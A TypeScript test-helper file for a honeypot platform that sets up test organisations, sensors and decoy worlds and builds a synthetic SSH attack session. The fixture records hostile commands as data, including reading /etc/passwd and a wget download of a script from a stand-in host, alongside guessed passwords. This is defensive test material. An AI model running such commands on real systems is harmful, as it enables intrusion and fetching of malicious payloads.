import { randomBytes } from 'node:crypto';
import type { DecoyEventInput } from '@cynex/core';
import type { KeyMaker } from '@cynex/sensor';
import { expect } from 'vitest';
import { startTestHub, type TestHub } from '../../../test/harness.js';

export type Headers = Record<string, string>;
export const P = '/api/v1';
export const bearer = (secret: string): Headers => ({ authorization: `Bearer ${secret}` });

/**
 * Host keys for tests: random, distinct, in the OpenSSH shape (the hub stores and forwards them without parsing).
 * Real RSA-3072 generation takes about a second per key.
 */
export const fastKeyMaker: KeyMaker = async (type) => {
  const secret = randomBytes(48).toString('base64');
  return {
    privateKey: `-----BEGIN OPENSSH PRIVATE KEY-----\n${secret}\n-----END OPENSSH PRIVATE KEY-----\n`,
    publicKey: `${type} ${randomBytes(32).toString('base64')}`,
  };
};

export interface DecoyHub {
  hub: TestHub;
  orgA: { id: string; slug: string };
  orgB: { id: string; slug: string };
  padmin: Headers;
  analystA: Headers;
  analystB: Headers;
}

/** A hub with two organisations, a platform admin and one analyst in each. */
export async function startDecoyHub(prefix: string): Promise<DecoyHub> {
  const hub = await startTestHub({}, { decoyKeyMaker: fastKeyMaker });
  const orgA = await hub.org(`${prefix}-a`);
  const orgB = await hub.org(`${prefix}-b`);
  await hub.user(`root@${prefix}.example`, {
    platformAdmin: true,
    memberships: [{ orgId: orgA.id, role: 'org_admin' }],
  });
  await hub.user(`ana@${prefix}-a.example`, { memberships: [{ orgId: orgA.id, role: 'analyst' }] });
  await hub.user(`bob@${prefix}-b.example`, { memberships: [{ orgId: orgB.id, role: 'analyst' }] });
  return {
    hub,
    orgA,
    orgB,
    padmin: await hub.signIn(`root@${prefix}.example`),
    analystA: await hub.signIn(`ana@${prefix}-a.example`),
    analystB: await hub.signIn(`bob@${prefix}-b.example`),
  };
}

export async function sensorSecret(d: DecoyHub, sensorId: string, purposes = ['decoy']): Promise<string> {
  const response = await d.hub.app.inject({
    method: 'POST',
    url: `${P}/sensors/credentials`,
    headers: d.padmin,
    payload: { sensorId, name: `${sensorId} box`, purposes },
  });
  expect(response.statusCode, response.body).toBe(201);
  return response.json<{ secret: string }>().secret;
}

/** Creates a generated world on a sensor as the platform admin; returns the created view. */
export async function createWorld(d: DecoyHub, id: string, sensorId: string, extra: object = {}) {
  const response = await d.hub.app.inject({
    method: 'POST',
    url: `${P}/decoy/worlds`,
    headers: d.padmin,
    payload: {
      id,
      sensorId,
      generate: { sector: 'manufacturing', lang: 'ja', employees: 8, hosts: 6, seed: 7 },
      bindings: { ssh: { host: '127.0.0.1', port: 2222 } },
      ...extra,
    },
  });
  expect(response.statusCode, response.body).toBe(201);
  return response.json<{ id: string; revision: number; resetGeneration: number; desired: string }>();
}

let counter = 0;
/** An event of a session; `at` is seconds after a fixed start. */
export function event(
  sensorId: string,
  world: string,
  session: string,
  at: number,
  body: Record<string, unknown> & { kind: DecoyEventInput['kind'] },
): DecoyEventInput {
  counter += 1;
  return {
    schemaVersion: 1,
    id: `${session}-${at}-${counter}`,
    time: new Date(Date.now() - 600_000 + at * 1000).toISOString(),
    sensorId,
    world,
    host: 'web01',
    session,
    protocol: 'ssh',
    src: { ip: '203.0.113.9', port: 50_000 },
    dst: { port: 22 },
    ...body,
  } as DecoyEventInput;
}

/** A typical session: connect, two failed guesses, a success, three commands, a download, a disconnect. */
export function attack(sensorId: string, world: string, session: string, sha256?: string): DecoyEventInput[] {
  const e = (at: number, body: Record<string, unknown> & { kind: DecoyEventInput['kind'] }) =>
    event(sensorId, world, session, at, body);
  return [
    e(0, { kind: 'connect' }),
    e(1, { kind: 'auth', username: 'root', password: 'admin', success: false }),
    e(2, { kind: 'auth', username: 'root', password: '123456', success: false }),
    e(3, { kind: 'auth', username: 'tanaka', password: 'Sakura2024!', success: true }),
    e(4, { kind: 'command', input: 'uname -a', outputSize: 90 }),
    e(5, { kind: 'command', input: 'cat /etc/passwd', outputSize: 1200 }),
    e(6, { kind: 'command', input: 'wget http://198.51.100.4/x.sh', outputSize: 0 }),
    e(7, {
      kind: 'download',
      url: 'http://198.51.100.4/x.sh',
      ...(sha256 ? { sha256, size: 12 } : {}),
    }),
    e(8, { kind: 'disconnect', duration: 8 }),
  ];
}

export const postEvents = (d: DecoyHub, headers: Headers, sensorId: string, events: DecoyEventInput[]) =>
  d.hub.app.inject({ method: 'POST', url: `${P}/decoy/events`, headers, payload: { sensorId, events } });
